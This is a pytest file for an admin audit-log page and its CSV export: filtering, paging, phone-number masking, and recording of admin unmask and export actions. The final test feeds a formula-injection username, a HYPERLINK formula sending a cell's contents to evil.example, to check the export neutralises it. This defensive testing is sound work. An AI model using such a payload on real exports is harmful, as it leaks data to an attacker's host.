"""The audit log page and its CSV export (bot/admin/audit.py): admins only, filtered by staff member and
action prefix, paged, personal data masked unless an admin asks to see it, which is itself recorded."""

from __future__ import annotations

import csv
import io
import re

from bot.admin.audit import PAGE
from bot.services import services_of
from bot.storage import accounts
from bot.storage.db import transaction


def _record(app, *entries: tuple[str, str, str, dict | None]) -> None:  # type: ignore[no-untyped-def]
    with transaction(services_of(app).factory) as session:
        for actor, action, target, detail in entries:
            accounts.audit(session, actor, action, target, detail, "192.0.2.1")


def _actions_in(page: str) -> list[str]:
    return re.findall(r"<td><code>([^<]*)</code></td>", page)


def _csv(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")  # Excel reads UTF-8 only with its BOM
    return list(csv.reader(io.StringIO(text[1:])))


def test_filters_by_staff_member_and_action_prefix(admin_app, client_for) -> None:
    admin = client_for("admin")  # signs in (recorded) before the records below
    _record(
        admin_app,
        ("editor", "faq.create", "passport", None),
        ("editor", "faq.delete", "juminhyo", None),
        ("viewer", "faq.create", "inu", None),
        ("editor", "report.status", "R-1", None),
    )
    everything = _actions_in(admin.get("/admin/audit").text)
    assert everything[:4] == ["report.status", "faq.create", "faq.delete", "faq.create"]  # newest first
    assert _actions_in(admin.get("/admin/audit?actor=editor&action=faq.").text) == [
        "faq.delete",
        "faq.create",
    ]
    assert _actions_in(admin.get("/admin/audit?actor=+viewer+&action=+faq").text) == ["faq.create"]
    empty = admin.get("/admin/audit?actor=nobody").text
    assert _actions_in(empty) == [] and "記録はありません" in empty


def test_pages_hold_a_hundred_records(admin_app, client_for) -> None:
    _record(admin_app, *[("editor", "bulk.step", f"item-{i}", None) for i in range(PAGE + 5)])
    admin = client_for("admin")
    first = admin.get("/admin/audit?action=bulk.").text
    assert len(_actions_in(first)) == PAGE
    assert "page=2" in first and "page=0" not in first  # older records follow, nothing newer
    second = admin.get("/admin/audit?action=bulk.&page=2").text
    assert len(_actions_in(second)) == 5 and "item-0<" in second
    assert "page=1" in second and "page=3" not in second
    assert admin.get("/admin/audit?page=0").status_code == 422
    assert admin.get("/admin/audit?page=10001").status_code == 422


def test_unmask_is_admin_only_and_audited(admin_app, client_for) -> None:
    with transaction(services_of(admin_app).factory) as session:
        accounts.audit(
            session, "someone", "test.pii", "電話 090-1234-5678", {"note": "0312345678"}, "1.2.3.4"
        )
    admin = client_for("admin")
    masked = admin.get("/admin/audit?action=test.").text
    assert "090-1234-5678" not in masked and "[電話番号]" in masked
    shown = admin.get("/admin/audit?action=test.&unmask=1").text
    assert "090-1234-5678" in shown
    with services_of(admin_app).factory() as session:
        assert [a.actor for a in accounts.list_audit(session, action="pii.unmask")] == ["admin"]
    assert client_for("viewer").get("/admin/audit?unmask=1").status_code == 403


def test_csv_export_is_masked_filtered_and_recorded(admin_app, client_for) -> None:
    _record(
        admin_app,
        ("editor", "faq.update", "電話 090-1234-5678", {"メモ": "折り返し 090-1234-5678"}),
        ("viewer", "login", "viewer", None),
    )
    admin = client_for("admin")
    response = admin.get("/admin/audit/export.csv?actor=editor")
    assert response.headers["content-type"].startswith("text/csv")
    assert 'filename="audit_log.csv"' in response.headers["content-disposition"]
    header, *rows = _csv(response.content.decode("utf-8"))
    assert header == ["日時(UTC)", "職員", "操作", "対象", "詳細", "IP"]
    editor_rows = [r for r in rows if r[2] == "faq.update"]
    assert len(editor_rows) == 1 and {r[1] for r in rows} == {"editor"}
    _, actor, _, target, detail, ip = editor_rows[0]
    assert "090-1234-5678" not in target + detail and "[電話番号]" in target and "メモ" in detail
    assert ip == "192.0.2.1"
    with services_of(admin_app).factory() as session:
        export = accounts.list_audit(session, action="audit.export")[0]
    assert (export.actor, export.target) == ("admin", "csv")
    assert export.detail == {"rows": len(rows), "unmasked": False}


def test_an_unmasked_export_is_recorded_as_such(admin_app, client_for) -> None:
    _record(admin_app, ("editor", "faq.update", "電話 090-1234-5678", None))
    admin = client_for("admin")
    text = admin.get("/admin/audit/export.csv?action=faq.&unmask=1").content.decode("utf-8")
    assert "090-1234-5678" in text
    with services_of(admin_app).factory() as session:
        unmask = accounts.list_audit(session, action="pii.unmask")[0]
        export = accounts.list_audit(session, action="audit.export")[0]
    assert unmask.target == "audit_log.csv" and export.detail == {"rows": 1, "unmasked": True}
    assert client_for("editor").get("/admin/audit/export.csv").status_code == 403


def test_a_sign_in_attempt_with_a_formula_for_a_name_is_text_in_the_export(admin_app, client_for) -> None:
    """Issue 17, item 1: the audit export writes the attempted username as text, never as a formula."""
    from fastapi.testclient import TestClient

    from tests.support.admin import login

    attack = '=HYPERLINK("https://evil.example/?"&A3,"詳細")'
    assert login(TestClient(admin_app), attack, "wrong-password").status_code == 401
    text = client_for("admin").get("/admin/audit/export.csv?action=login.failed").content.decode("utf-8")
    header, *rows = _csv(text)
    assert [(r[1], r[3]) for r in rows] == [("'" + attack, "'" + attack)]
    assert not [cell for r in rows for cell in r if cell[:1] in set("=+-@\t\r")]
